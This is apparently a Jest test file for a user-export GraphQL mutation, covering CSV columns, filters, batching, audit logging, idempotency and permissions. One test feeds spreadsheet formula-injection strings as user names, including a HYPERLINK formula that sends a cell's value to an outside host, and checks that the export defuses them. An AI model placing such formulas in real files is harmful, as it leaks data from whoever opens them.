import { parse } from 'csv-parse/sync';
import { plainCell } from '../../src/core/csv-cell.ts';
import { newId } from '../../src/core/ids.ts';
import { House, type Caller, type TestUser } from '../support/house.ts';
import { lesserCallers } from '../support/lesser-callers.ts';
import { fetchLink, linkTo } from '../support/transfers.ts';

const EXPORT = 'mutation ($filter: UserFilter) { exportUsers(filter: $filter) { url contentType expiresAt } }';
const USERS =
  'query ($filter: UserFilter) { users(first: 100, filter: $filter, orderBy: {field: JOINED_AT}) { nodes { email } } }';
const COLUMNS = 'email,name,username,password,role,type,status,groups,projects,time_zone,locale';

type Row = Readonly<Record<string, string>>;

/** The rows of a file, as a program reads them that takes any line break for the end of a line. */
const rowsOf = (text: string): Row[] =>
  parse(text, { bom: true, columns: true, record_delimiter: ['\r\n', '\n', '\r'] });

describe('exportUsers', () => {
  let house: House;
  let admin: TestUser;
  let caller: Caller;
  beforeAll(async () => {
    house = await House.open();
    admin = await house.addUser('ADMIN', { name: 'Ada Lovelace' });
    await house.markFirst(admin);
    caller = await house.callerFor(admin);
  });
  afterAll(() => house.close());

  const exported = async (filter: object | null): Promise<Row[]> => {
    const { data, errors } = await house.ask(caller, EXPORT, { filter });
    expect(errors).toEqual([]);
    return rowsOf((await fetchLink(data.exportUsers.url)).text);
  };

  it('links to a file for fifteen minutes, and says what it is', async () => {
    const { data } = await house.ask(caller, EXPORT);
    const { url, contentType, expiresAt } = data.exportUsers;
    expect(contentType).toBe('text/csv');
    expect(Date.parse(expiresAt) - house.clock.now().getTime()).toBeGreaterThan(14 * 60_000);
    expect(Date.parse(expiresAt) - house.clock.now().getTime()).toBeLessThanOrEqual(15 * 60_000);
    expect(url).toMatch(new RegExp(`^${house.url}/downloads/gh_ln_[\\w-]{43}$`));
  });

  it('has the columns that an import reads, and never a password', async () => {
    const bob = { name: 'Bob', username: 'bob-1', timeZone: 'Europe/Berlin', locale: 'de', type: 'EXTERNAL' };
    const { email } = await house.addUser('EXPERT', bob);
    const { text } = await fetchLink(await linkTo(house, caller, `exportUsers(filter: { search: "${email}" })`));
    expect(text).toBe(`\ufeff${COLUMNS}\r\n${email},Bob,bob-1,,EXPERT,EXTERNAL,ACTIVE,,,Europe/Berlin,de\r\n`);
  });

  it('leaves empty what an account does not have', async () => {
    await house.addUser('USER', { name: 'Robot of the export', email: null, type: 'SERVICE' });
    const [row] = await exported({ search: 'Robot of the export' });
    expect(row).toMatchObject({ email: '', name: 'Robot of the export', username: '', type: 'SERVICE' });
  });

  it('has nothing but the columns where nobody matches', async () => {
    const { text } = await fetchLink(
      await linkTo(house, caller, 'exportUsers(filter: { search: "nobody of that name" })'),
    );
    expect(text).toBe(`\ufeff${COLUMNS}\r\n`);
  });

  it.each([
    '=HYPERLINK("http://example.com?x="&A1,"Bill")',
    '+1 234',
    '-2+3',
    '@SUM(1,2)',
    '＝1+1',
    "'=1+1",
    "''-1",
    'harmless;=1+1',
    'two\n=lines',
    '"quoted", and more',
    'Müller, Jürgen 漢字 🦦',
    "O'Neil -x",
  ])('gives a spreadsheet no formula in %s, and an import the name as it was', async (name) => {
    const { email } = await house.addUser('USER', { name });
    const [row] = await exported({ search: email });
    expect(row!.name).not.toMatch(/(^|[;\t\r\n])[=+\-@\t\r\n＝]/);
    expect(plainCell(row!.name!)).toBe(name);
  });

  it('has those whom the list shows for the same filter, oldest first', async () => {
    const tag = newId().slice(-8);
    const people = [
      ['USER', { name: `${tag} one`, type: 'EXTERNAL', joinedAt: new Date('2020-01-01') }],
      ['EXPERT', { name: `${tag} two`, status: 'SUSPENDED', joinedAt: new Date('2019-01-01') }],
      ['PENDING', { name: `${tag} three`, joinedAt: new Date('2018-01-01') }],
      ['USER', { name: `someone else`, email: `${tag}@example.org`, joinedAt: new Date('2017-01-01') }],
    ] as const;
    for (const [role, values] of people) await house.addUser(role, values);
    const filters = [
      { search: tag },
      { search: tag, role: ['USER', 'PENDING'] },
      { search: tag, type: ['EXTERNAL'] },
      { search: tag, status: ['SUSPENDED'] },
      { search: tag, awaitingApproval: true },
      { search: tag, joined: { from: '2018-06-01T00:00:00Z', to: '2020-01-01T00:00:00Z' } },
      { search: tag, lastActive: { to: '2021-01-01T00:00:00Z' } },
      { search: tag, lastActive: { from: '2021-01-01T00:00:00Z' } },
    ];
    const counts: number[] = [];
    for (const filter of filters) {
      const { data } = await house.ask(caller, USERS, { filter });
      const listed = data.users.nodes.map(({ email }: { email: string }) => email) as string[];
      expect((await exported(filter)).map(({ email }) => email)).toEqual(listed);
      counts.push(listed.length);
    }
    expect(counts).toEqual([4, 3, 1, 1, 1, 1, 4, 0]);
  });

  it('reads thousands in batches of a thousand, each account once', async () => {
    await house.rows(
      `INSERT INTO users (id, email, name, time_zone, locale, created_at, updated_at)
        SELECT gen_random_uuid(), 'crowd-' || n || '@example.org', 'Crowd', 'UTC', 'en',
          '2021-01-01'::timestamptz + (n / 700) * interval '1 hour', now() FROM generate_series(1, 3500) n`,
    );
    await house.rows(`INSERT INTO user_activity (user_id) SELECT id FROM users WHERE name = 'Crowd'`);
    const filter = 'filter: { joined: { from: "2021-01-01T00:00:00Z", to: "2022-01-01T00:00:00Z" } }';
    const { text, statements } = await fetchLink(await linkTo(house, caller, `exportUsers(${filter})`));
    const rows = await house.rows(`SELECT email FROM users WHERE name = 'Crowd' ORDER BY created_at, id`);
    expect(rowsOf(text).map(({ email }) => email)).toEqual(rows.map(({ email }) => email));
    // The link; then the accounts, 1,000 at once and 500 at last, and of each batch the groups and the projects.
    expect(statements).toHaveLength(1 + 4 * 3);
  });

  it('leaves an event that says which users were asked for', async () => {
    const { data, headers } = await house.ask(caller, EXPORT, { filter: { search: 'Bob', role: ['USER'] } });
    const [event] = await house.rows(`SELECT * FROM audit_events WHERE request_id = $1`, [headers.get('x-request-id')]);
    const [link] = await house.rows(`SELECT * FROM links WHERE id = $1`, [event.after.linkId]);
    expect(event).toMatchObject({ action: 'USERS_EXPORTED', actor_id: admin.id, target_type: 'User', target_id: null });
    expect(event.after.filter).toEqual({ search: 'Bob', role: ['USER'] });
    expect(link).toMatchObject({ kind: 'users.csv', created_by: admin.id, impersonator_id: null, used_at: null });
    expect(JSON.stringify(event)).not.toContain(data.exportUsers.url.split('/').pop());
  });

  it('refuses a filter that cannot be', async () => {
    const { refusal } = await house.ask(caller, EXPORT, { filter: { search: 'x'.repeat(201) } });
    expect(refusal).toMatchObject({ code: 'BAD_USER_INPUT', violations: [{ path: ['filter', 'search'] }] });
  });

  it('gives the same link twice where the same request is repeated', async () => {
    const before = await house.rows('SELECT id FROM links');
    const ask = () => house.ask(caller, EXPORT, {}, { 'idempotency-key': 'export-once' });
    const [first, second] = [await ask(), await ask()];
    expect(second.data).toEqual(first.data);
    expect(await house.rows('SELECT id FROM links')).toHaveLength(before.length + 1);
    const token = first.data.exportUsers.url.split('/').pop() as string;
    const kept = await house.rows('SELECT result FROM idempotency_keys WHERE result IS NOT NULL');
    expect(kept.map(({ result }) => String(result)).join()).toContain('users.csv');
    expect(kept.map(({ result }) => String(result)).join()).not.toContain(token);
  });

  it.each(lesserCallers)('is denied to %s', async (_who, make, code) => {
    const before = await house.rows('SELECT id FROM links');
    expect((await house.ask(await make(house), EXPORT)).refusal?.code).toBe(code);
    expect(await house.rows('SELECT id FROM links')).toEqual(before);
  });
});
